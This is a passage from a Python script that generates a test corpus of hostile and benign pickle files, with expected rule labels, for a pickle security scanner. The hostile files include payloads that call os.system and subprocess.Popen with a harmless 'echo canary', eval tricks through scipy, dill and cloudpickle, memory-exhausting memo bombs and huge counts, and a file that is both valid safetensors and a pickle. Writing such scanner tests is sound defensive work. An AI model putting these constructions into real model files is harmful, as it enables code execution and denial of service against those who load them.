    for i in range(1, 14):
        bomb += b"]q" + bytes([i]) + b"(" + (b"h" + bytes([i - 1])) * 10 + b"e"
    suspicious("P15", "memo-bomb", bomb + b".", "pickle.memo-bomb")
    tuples = P2 + b"K\x01\x85q\x00"
    for i in range(1, 40):
        tuples += b"h" + bytes([i - 1]) + b"h" + bytes([i - 1]) + b"\x86q" + bytes([i]) + b"0"
    suspicious("P15", "memo-bomb-pairs", tuples + b".", "pickle.memo-bomb")
    emit("P15", "memo-bomb-then-call", bomb + RUN + b".")
    for name, op in (("binunicode8", b"\x8d"), ("binbytes8", b"\x8e"), ("bytearray8", b"\x96")):
        suspicious("P15", f"claim-{name}", P5 + op + struct.pack("<Q", 1 << 40) + b"abc",
                   "pickle.oversized-claim")
        suspicious("P15", f"claim-huge-{name}", P5 + op + struct.pack("<Q", (1 << 64) - 1) + b"abc",
                   "pickle.oversized-claim")
    suspicious("P15", "claim-frame", P4 + frame(1 << 60) + b"}.", "pickle.oversized-claim")
    emit("P15", "far-memo", P2 + b"".join(b"Nr" + struct.pack("<I", i * 104729 % (1 << 32)) + b"0"
                                          for i in range(20000)) + RUN + b".",
         loader="pickle._Unpickler")
    emit("P15", "padding", P4 + b"\x8e" + struct.pack("<Q", 12 << 20) + bytes(12 << 20) + b"0" + RUN + b".")
    shared = [0] * 1000
    benign("P15", "shared", pickle.dumps([shared] * 1000, 4))


def more():
    """What turned up later, each under the trick that it belongs to."""
    # P9: scipy's distributions execute a text of their state.
    norm = stack_global("scipy.stats._continuous_distns", "norm_gen") + b")\x81"
    for name, text in (("body", "\ndef _parse_args(self, loc=0):\n    return (), loc\nimport os\nos.system('echo canary')\n"),
                       ("default", "\ndef _parse_args(self, x=print('canary')):\n    return (), x\n"),
                       ("decorator", "@(lambda f: print('canary') or f)\ndef _parse_args(self, loc=0):\n    return (), loc\n")):
        emit("P9", f"scipy-source-{name}", P4 + norm + b"}" + uni("_parse_arg_template") + uni(text)
             + b"sb.", rules="pickle.source-in-state")
    benign("P9", "scipy-source", P4 + norm + b"}" + uni("_parse_arg_template") + uni(
        "\ndef _parse_args(self, a, loc=0, scale=1):\n    return (a, ), loc, scale\n") + b"sb.")
    base = glob("subprocess", "Popen")
    emit("P9", "reconstructor-base", P2 + call(glob("copy_reg", "_reconstructor"), glob("__main__", "X"),
                                               base, b"]" + uni("echo") + b"a") + b".")
    # P8: items of a tensor.
    tensor = glob("torch._utils", "_rebuild_tensor_v2") + b")R"
    for name, tail in (("setitem", uni("k") + b"K\x01s"), ("setitems", b"(" + uni("k") + b"K\x01u"),
                       ("append", b"K\x01a")):
        suspicious("P8", f"tensor-{name}", P2 + tensor + tail + b".", "pickle.item-on-tensor")
    # P10: the first opcode reaches behind what is looked at to recognise the file.
    text = b"V" + b"a" * 9000 + b"\n0cos\nsystem\n(S'echo canary'\ntR."
    for ending in ("pkl", "bin", "pt"):
        emit("P10", f"long-first-line-{ending}", text, ending=ending)
    emit("P10", "many-none-first", b"N" * 5000 + b"S'echo canary'\np1\n0cos\nsystem\n(g1\ntR.")
    npy = b"\x93NUMPY\x01\x00\x46\x00" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(69) + b"\n"
    suspicious("P10", "objects-no-opcode", npy + b"   cos\nsystem\n(S'echo canary'\ntR.", "pickle.broken",
               ending="npy", loader="numpy.load")
    suspicious("P10", "objects-cut", npy + b"\x80\x03cnump", "pickle.truncated", ending="npy",
               loader="numpy.load")
    # P12: headers of compressed data, and nothing behind them that could be decoded.
    benign("P12", "no-gzip", pickle.dumps({"icon": b"\x1f\x8b\x08\x00" + b"fake gzip data" * 50}, 4))
    benign("P12", "no-bzip2", pickle.dumps({"text": "BZh91AY&SY " + "caf\u00e9 " * 900}, 2))
    benign("P12", "bzip2-in-protocol-2", pickle.dumps(bz2.compress(b"weights" * 500), 2))
    # P15: iterators that never end.
    for name in ("count", "cycle", "repeat"):
        endless = call(glob("itertools", name), b"(K\x01l" if name == "cycle" else b"K\x01")
        suspicious("P15", f"endless-{name}", P2 + call(glob("__builtin__", "list"), endless) + b".",
                   "pickle.endless-call")
    # P15: counts that have nothing to do with the file's size.
    long5 = b"\x8a\x06" + struct.pack("<Q", 10 ** 12)[:6]
    big = b"\x8a\x05" + struct.pack("<Q", 2 ** 31)[:5]
    span = call(glob("__builtin__", "xrange"), big)
    for name, ops in (("memo-index", b"Nr\xff\xff\xff\x3f"), ("memo-index-text", b"Np1073741823\n"),
                      ("bytearray", call(glob("__builtin__", "bytearray"), long5)),
                      ("bytes-new", glob("__builtin__", "bytes") + long5 + b"\x85\x81"),
                      ("list-of-range", call(glob("__builtin__", "list"), span)),
                      ("tuple-of-range", call(glob("__builtin__", "tuple"), call(
                          glob("__builtin__", "xrange"), b"K\x05", big, b"K\x02")))):
        suspicious("P15", f"huge-{name}", P2 + ops + b".", "pickle.huge-count")
    benign("P15", "range-held", P2 + span + b".")
    benign("P15", "bytearray-small", P2 + call(glob("__builtin__", "bytearray"), b"M\x00\x10") + b".")
    benign("P15", "list-of-range-small", P2 + call(glob("__builtin__", "list"), call(
        glob("__builtin__", "xrange"), b"M\x00\x10")) + b".")
    # P5: what is bound to a text, and the forms that dill and cloudpickle write.
    benign("P5", "bound-to-text", P4 + call(stack_global("builtins", "getattr"), uni("abc"),
                                            uni("upper")) + b".")
    emit("P5", "bound-to-text-called", P4 + call(call(stack_global("builtins", "getattr"), uni(
        "{0.x}"), uni("format")), b"K\x01") + b".",
         loader="by specification: the call itself fails", rules="pickle.unresolved-call")
    suspicious("P5", "bound-to-text-dunder", P4 + call(stack_global("builtins", "getattr"), uni(
        "abc"), uni("__class__")) + b".", "pickle.indirect-call")
    suspicious("P5", "bound-to-module", P4 + call(stack_global("builtins", "getattr"), stack_global(
        "shutil", "x"), uni("', 'upper")) + b".", "pickle.indirect-call")
    method = "<method 'lower' of 'str' objects>"
    benign("P5", "dill-method", P4 + call(stack_global("dill._dill", "_getattr"), stack_global(
        "builtins", "str"), uni("lower"), uni(method)) + b".")
    emit("P5", "dill-method-evil", P4 + call(stack_global("dill._dill", "_getattr"), stack_global(
        "builtins", "str"), uni("lower"), uni("<method 'lower' of 'print(\"canary\")' objects>")) + b".")
    for name, text in (("ellipsis", "Ellipsis"), ("not-implemented", "NotImplemented"),
                       ("range", "range(0, 5)")):
        benign("P1", f"dill-{name}", P4 + call(stack_global("dill._dill", "_eval_repr"), uni(text)) + b".")
    for name, text in (("call", "print('canary')"), ("range-call", "range(print('canary'))"),
                       ("range-more", "range(0, 5) or print('canary')")):
        how = "pickle.load" if name != "range-more" else "by specification: range() is true, so the rest waits"
        emit("P1", f"dill-eval-{name}", P4 + call(stack_global("dill._dill", "_eval_repr"), uni(text)) + b".",
             loader=how)
    built = stack_global("cloudpickle.cloudpickle", "_builtin_type")
    benign("P9", "cloudpickle-type", P4 + call(built, uni("SimpleNamespace")) + b".")
    emit("P9", "cloudpickle-type-called", P4 + call(call(built, uni("CodeType")), b"K\x01") + b".",
         loader="by specification: the call itself fails")
    loaded = call(stack_global("dill._dill", "_load_type"), uni("PartialType"))
    benign("P9", "dill-partial", P4 + call(loaded, stack_global("numpy", "clip")) + b".")
    emit("P9", "dill-partial-evil", P4 + call(loaded, stack_global("os", "system"), uni(CMD)) + b".",
         loader="by specification: the call that is prepared waits", rules="pickle.indirect-call")
    # P5: members of allowed classes are no walk until they are called.
    benign("P5", "enum-member", P4 + call(stack_global("builtins", "getattr"),
                                          stack_global("re", "RegexFlag"), uni("IGNORECASE")) + b".")
    benign("P5", "unbound-method", P4 + call(stack_global("builtins", "getattr"),
                                             stack_global("builtins", "str"), uni("split")) + b".")
    suspicious("P5", "unbound-method-called", P4 + call(
        call(stack_global("builtins", "getattr"), stack_global("torch", "Tensor"), uni("tofile")),
        uni("x")) + b".", "pickle.dotted-walk,pickle.call-unlisted")
    suspicious("P5", "module-in-module", P4 + stack_global("torch.serialization", "os") + b".",
               "pickle.dotted-walk")
    benign("P1", "iterator", P2 + call(glob("__builtin__", "iter"), b"]") + b"K\x00b.")
    emit("P1", "iterator-of-calls", P2 + call(glob("__builtin__", "iter"), glob("os", "getcwd"),
                                              b"K\x01") + b".")


# --- a valid file of another format that is a pickle from its first byte on ---

def safetensors_and_pickle(payload):
    """Header length 0x2842: its first byte is BINBYTES, which jumps into the metadata; strings of 124 characters
    (SHORT_BINSTRING, 'U|') lead through the rest of the header; the tensor begins with opcodes."""
    length = 0x42 + 256 * 0x28
    tensor = b'"t":{"dtype":"U8","shape":[4096],"data_offsets":[0,4096]}}'
    start = b'{"__metadata__":{"note":"'
    end = b'"},' + tensor
    text = bytearray(b"x" * (length - len(start) - len(end)))
    at = 5 + 0x28 - 8 - len(start)  # where BINBYTES lands, in the text
    while at < len(text):
        text[at:at + 2] = b"U|"
        at += 126
    body = start + bytes(text[:length - len(start) - len(end)]) + end
    beyond = at - len(text) - len(end)  # of the last string, in the tensor
    data = b"\0" * max(beyond, 0) + payload
    return struct.pack("<Q", length) + body + data.ljust(4096, b"\0")


def polyglots():
    both = safetensors_and_pickle(b"(" + RUN + b".")
    rules = CALL + ",pickle.polyglot"
    for ending in ("safetensors", "pkl", "bin", "pt"):
        emit("Z1", "safetensors-and-pickle", both, ending=ending, rules=rules)
    benign("Z1", "safetensors-alone", safetensors_and_pickle(b""), loader="pickle.load", ending="safetensors")


def main():
    global OUT
    OUT = sys.argv[1]
    os.makedirs(OUT, exist_ok=True)
    for make in (p1_calls, p2_stack, p3_memo, p4_names, p5_walks, p6_modules, p7_extensions,
                 p8_writes, p9_indirect, p10_broken, p11_streams, p12_nested, p13_joblib, p14_frames,
                 p15_resources, more, polyglots):
        make()
    with open(os.path.join(OUT, "manifest.tsv"), "w") as f:
        for entry in ROWS:
            f.write("\t".join(entry) + "\n")
    print(f"{len(ROWS)} files")


if __name__ == "__main__":
    main()
